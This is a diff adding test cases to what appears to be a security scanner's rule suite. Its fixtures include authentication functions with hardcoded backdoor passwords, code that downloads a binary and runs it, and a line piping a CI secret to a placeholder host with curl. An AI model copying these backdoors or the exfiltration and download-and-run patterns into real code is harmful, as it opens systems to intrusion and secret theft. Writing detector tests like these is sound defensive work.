@@ -156,3 +156,33 @@ TEST_CASE("a CI secret inside single quotes or all secrets as JSON still reach t
       "curl -d @- https://x.example.com/s\n");
   CHECK_FALSE(has_flow(plain, "secret_var", "network"));
 }
+
+TEST_CASE("a magic value whose branch refuses is a validation, one whose branch grants is a bypass") {
+  check("a.py",
+        "def validate_username(username):\n    if username == 'admin':\n        raise ValueError('reserved')\n"
+        "    return username\n",
+        "code.auth.magic-value-bypass", false);
+  check("a.go",
+        "package a\nfunc Authenticate(user, password string) error {\n\tif password == \"revoked-2023\" {\n"
+        "\t\treturn errors.New(\"revoked\")\n\t}\n\treturn check(user, password)\n}\n",
+        "code.auth.magic-value-bypass", false);
+  check("a.go",
+        "package a\nfunc Authenticate(user, password string) error {\n\tif password == \"letmein-2024\" {\n"
+        "\t\treturn nil\n\t}\n\treturn check(user, password)\n}\n",
+        "code.auth.magic-value-bypass", true);
+  check("a.py", "def check_login(user, password):\n    if password != 'hunter2-x1':\n        return False\n    return True\n",
+        "code.auth.magic-value-bypass", true);
+  check("a.py", "def authenticate(user, password):\n    return password == 'letmein-2024' or check(user, password)\n",
+        "code.auth.magic-value-bypass", true);
+}
+
+TEST_CASE("a download only counts as run when the command names the downloaded path") {
+  check("a.py",
+        "def update():\n    r = requests.get(URL)\n    with open('/tmp/u.bin', 'wb') as f:\n        f.write(r.content)\n"
+        "    subprocess.run(['/tmp/u.bin'])\n",
+        "code.exec.downloaded-file-run", true);
+  check("a.py",
+        "def train():\n    urllib.request.urlretrieve(MODEL_URL, '/tmp/model.bin')\n"
+        "    subprocess.run(['python3', 'train.py', '--epochs', '3'])\n",
+        "code.exec.downloaded-file-run", false);
+}
